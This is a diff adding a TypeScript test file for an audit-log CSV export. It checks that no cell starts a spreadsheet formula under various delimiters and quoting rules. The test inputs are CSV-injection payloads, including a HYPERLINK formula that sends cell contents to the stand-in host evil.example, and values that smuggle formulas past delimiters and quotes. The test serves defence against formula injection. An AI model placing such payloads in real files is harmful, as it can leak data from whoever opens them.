@@ -1,0 +1,51 @@
+import { parse } from 'csv-parse/sync';
+import { csvHeader, csvRow } from '../../../src/audit/export-csv.ts';
+import { newEvent, operatorActor } from '../../../src/domain/request/events.ts';
+
+const request = 'CMK-000001';
+
+/** An event in which somebody's words stand wherever somebody's words can. */
+function exported(words: string): string {
+  const { body } = newEvent('cancelled', operatorActor(words), {}, { submittedBy: words });
+  const whole = { ...body, time: '2026-01-01T00:00:00.000Z', commitments: [{ field: 'comment' }] };
+  const line = { seq: 1, request, revision: 1, cause: words, n: 0, body: JSON.stringify(whole), prev: '0', hash: '1' };
+  return csvHeader() + csvRow(line, [{ request, revision: 1, field: 'comment', salt: '', text: words }]);
+}
+
+/** How programs read such a file: the list separator is the country's, and some do not know quotes. */
+const dialects = [',', ';', '\t'].flatMap((delimiter) =>
+  ['"', null].map((quote) => ({ delimiter, quote, relax_column_count: true, relax_quotes: true })),
+);
+const cellsOf = (text: string): string[] => dialects.flatMap((dialect) => parse(text, dialect).flat());
+const runs = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+describe('the export for spreadsheets', () => {
+  it('reads back as as many cells in every row as names in the first', () => {
+    const [names = [], cells = []] = parse(exported('no comma, "quotes"; and\nlines')) as string[][];
+    expect(cells).toHaveLength(names.length);
+    expect(cells[names.indexOf('cause')]).toBe('no comma, "quotes"; and\nlines');
+  });
+
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@a',
+    '\t=1',
+    '\r=1',
+    '＝1',
+    ' =1',
+    'ok;=HYPERLINK("https://evil.example?"&A1,"open")',
+    'ok\t=1+1',
+    'ok,=1+1',
+    'ok;  @SUM(1)',
+    'ok\n=1+1',
+    'ok\r\n-1+1',
+    'ok";"=1+1',
+    'ok"\n=1+1',
+    '";=1+1',
+    'ok|+1',
+  ])('starts no formula with %j, whatever parts the cells', (words) => {
+    expect(cellsOf(exported(words)).filter((cell) => runs.test(cell))).toEqual([]);
+  });
+});
